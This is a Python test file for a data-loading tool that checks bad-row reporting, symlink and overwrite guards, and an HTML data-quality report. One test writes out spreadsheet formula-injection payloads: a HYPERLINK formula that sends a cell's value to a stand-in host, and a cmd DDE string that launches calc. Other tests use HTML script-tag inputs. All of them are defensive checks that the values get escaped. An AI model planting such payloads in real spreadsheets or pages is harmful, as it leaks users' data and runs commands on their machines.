"""The files of a load: bad rows back to their owner only, and a report on their quality."""

from __future__ import annotations

import csv
import io
import stat
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from saferoom_client.records.annex import catalogue
from saferoom_client.records.blanks import sheet_name, write_blanks
from saferoom_client.records.collecting import Collected, Rejects, collected, require_apart
from saferoom_client.records.drafting import draft_tables
from saferoom_client.records.report import read_report, write_report
from saferoom_client.tongue import Language, speak
from saferoom_proto.reasons import Reason, SafeRoomError
from saferoom_proto.statements.feature import Table
from saferoom_proto.uscc import make_uscc

NOW = datetime(2026, 11, 30, tzinfo=UTC)
HEADINGS = ("table", "line", "column", "rule")


def tables(*names: str) -> Sequence[Table]:
    return draft_tables([catalogue().tables[name] for name in names], (), ())


def collect(
    schema: Sequence[Table], files: dict[str, str], rejects: Path | None = None
) -> tuple[Collected, dict[str, str]]:
    """Collect a load; give what became of it, and what would be sealed."""
    told = Rejects(rejects, str.upper, HEADINGS)
    with collected(schema, files, told, progress=lambda rows: None) as found:
        return found, {name: path.read_text("utf-8") for name, path in found.files.items()}


def grades(folder: Path, *rows: str) -> str:
    path = folder / "grades.csv"
    heading = "企业名称,统一社会信用代码,评级年度,纳税信用等级"
    path.write_text("\n".join([heading, *rows]), "utf-8")
    return str(path)


def test_bad_rows_are_written_for_their_owner_alone(tmp_path: Path) -> None:
    place = tmp_path / "rejects.csv"
    file = grades(
        tmp_path, f"甲,{make_uscc(1)},2024,E", f"乙,{make_uscc(2)},2024,A", "丙,,24,B", "丁"
    )
    found, _ = collect(tables("tax_credit_grade"), {"tax_credit_grade": file}, place)
    assert found.bad == 3
    assert stat.S_IMODE(place.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(place.read_text("utf-8-sig"))))
    assert rows == [
        list(HEADINGS),
        [
            *("tax_credit_grade", "2", "纳税信用等级", "NONE OF THE COLUMN'S CODES"),
            *("甲", make_uscc(1), "2024", "E"),
        ],
        [
            *("tax_credit_grade", "4", "评级年度", "A YEAR FROM 1900 TO THE NEXT"),
            *("丙", "", "24", "B"),
        ],
        [
            *("tax_credit_grade", "4", "统一社会信用代码", "EVERY ROW NAMES ITS SUBJECT"),
            *("丙", "", "24", "B"),
        ],
        ["tax_credit_grade", "5", "", "A ROW HAS AS MANY FIELDS AS THE HEADING"],
    ]


def test_what_a_record_says_is_computed_by_no_spreadsheet(tmp_path: Path) -> None:
    place, year = tmp_path / "rejects.csv", "1e9"
    said = {
        '"=HYPERLINK(""http://x/?""&B2,""甲"")"': """'=HYPERLINK("http://x/?"&B2,"甲")""",
        "@SUM(1)": "'@SUM(1)",
        "-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0",
        "\uff1d1": "'\uff1d1",
        "-1": "-1",
        "'=1": "'=1",
        "甲=乙": "甲=乙",
    }
    rows = [f"{name},{make_uscc(n)},{year},A" for n, name in enumerate(said)]
    found, _ = collect(
        tables("tax_credit_grade"), {"tax_credit_grade": grades(tmp_path, *rows)}, place
    )
    assert found.bad == len(said)
    told = list(csv.reader(io.StringIO(place.read_text("utf-8-sig"))))
    assert [row[len(HEADINGS)] for row in told[1:]] == list(said.values())


def test_without_a_bad_row_there_is_no_file_of_them(tmp_path: Path) -> None:
    file = grades(tmp_path, f"甲,{make_uscc(1)},2024,A")
    place = tmp_path / "rejects.csv"
    found, sealed = collect(tables("tax_credit_grade"), {"tax_credit_grade": file}, place)
    assert not found.bad
    assert not place.exists()
    assert sealed["tax_credit_grade"].endswith(f"甲,{make_uscc(1)},2024,A\n")


def test_nothing_of_the_rows_has_a_name_on_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    file = grades(tmp_path, f"甲,{make_uscc(1)},2024,A")
    rejects = Rejects(None, str, HEADINGS)
    files = {"tax_credit_grade": file}
    schema = tables("tax_credit_grade")
    with collected(schema, files, rejects, progress=lambda rows: None) as found:
        assert found.files["tax_credit_grade"].stat().st_size
        assert list((tmp_path / "tmp").iterdir()) == []


def test_a_file_that_is_loaded_is_not_written_over(tmp_path: Path) -> None:
    file = grades(tmp_path, f"甲,{make_uscc(1)},2024,A")
    link = tmp_path / "link.csv"
    link.symlink_to(file)
    for place in (Path(file), link):
        for text in (file, f"{file}#一"):
            with pytest.raises(SafeRoomError) as refusal:
                require_apart((None, place), {"tax_credit_grade": text})
            assert refusal.value.fields[0].rule == "it is one of the files to load"
    require_apart((tmp_path / "other.csv", None), {"tax_credit_grade": file})


def test_a_load_brings_every_table_and_no_other(tmp_path: Path) -> None:
    file = grades(tmp_path)
    with pytest.raises(SafeRoomError) as refusal:
        collect(tables("tax_credit_grade", "reg_industry"), {"grades": file})
    assert refusal.value.reason is Reason.MALFORMED
    assert [each.field for each in refusal.value.fields] == [
        *("grades", "tax_credit_grade", "reg_industry")
    ]


def test_a_workbook_that_was_filled_in_is_collected_sheet_by_sheet(tmp_path: Path) -> None:
    names = ("tax_credit_grade", "reg_spot_check")
    forms = [catalogue().tables[name] for name in names]
    path = tmp_path / "forms.xlsx"
    write_blanks(path, forms)
    book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()), read_only=False, data_only=False)
    book[sheet_name(forms[0])].append(["甲", make_uscc(1), 2024, "A"])
    book[sheet_name(forms[1])].append(["甲", make_uscc(1), 3])
    out = io.BytesIO()
    book.save(out)
    path.write_bytes(out.getvalue())
    found, sealed = collect(tables(*names), {name: str(path) for name in names})
    assert not found.bad
    assert sealed["reg_spot_check"].endswith(f"甲,{make_uscc(1)},3\n")
    named = {"reg_spot_check": f"{path}#{sheet_name(forms[1])}"}
    assert collect(tables("reg_spot_check"), named)[1]["reg_spot_check"]


def paid(folder: Path, amounts: Sequence[int], month: str) -> Collected:
    path = folder / "paid.csv"
    rows = [f"{make_uscc(at)},{month},,{amount}," for at, amount in enumerate(amounts)]
    path.write_text("\n".join(["uscc,pay_month,depositors,amount,pay_date", *rows]), "utf-8")
    name = "hf_deposit_hf_payment_record"
    return collect(tables(name), {name: str(path)})[0]


def report(found: Collected, before: Path | None = None) -> str:
    counted = [each.quality for each in found.held.values()]
    return write_report(counted, read_report(before) if before else {}, NOW).decode()


def test_a_report_tells_what_is_complete_valid_fresh_and_has_drifted(tmp_path: Path) -> None:
    first = report(paid(tmp_path, [1500] * 200, "2026-09"))
    for words in ("200 rows, 0 of them bad", "2026-09, 90 days ago", "0.00%", "100.00%", ">1500<"):
        assert words in first
    (tmp_path / "first.html").write_text(first, "utf-8")
    same = report(paid(tmp_path, [1500] * 100, "2026-10"), tmp_path / "first.html")
    assert "0.00 as it was" in same
    assert "The earlier load had 200 rows." in same
    other = report(paid(tmp_path, [900000] * 100, "2026-10"), tmp_path / "first.html")
    assert "another one" in other


def test_a_report_speaks_chinese_too_and_holds_no_text_of_a_record(tmp_path: Path) -> None:
    file = grades(tmp_path, f"某某公司,{make_uscc(1)},2024,A", f"<b>,{make_uscc(2)},2024,</script>")
    found, _ = collect(tables("tax_credit_grade"), {"tax_credit_grade": file})
    speak(Language.ZH)
    try:
        text = report(found)
    finally:
        speak(Language.EN)
    assert "数据质量报告" in text
    assert "纳税信用等级信息" in text
    for secret in ("某某公司", make_uscc(1), make_uscc(2), "<b>"):
        assert secret not in text
    assert text.count("</script>") == 1


def test_another_file_is_no_report(tmp_path: Path) -> None:
    path = tmp_path / "x.html"
    for text in ("", '<script type="application/json" id="counted">[{"name": 1}]</script>'):
        path.write_text(text, "utf-8")
        with pytest.raises(SafeRoomError) as refusal:
            read_report(path)
        assert refusal.value.reason is Reason.BAD_CONFIG
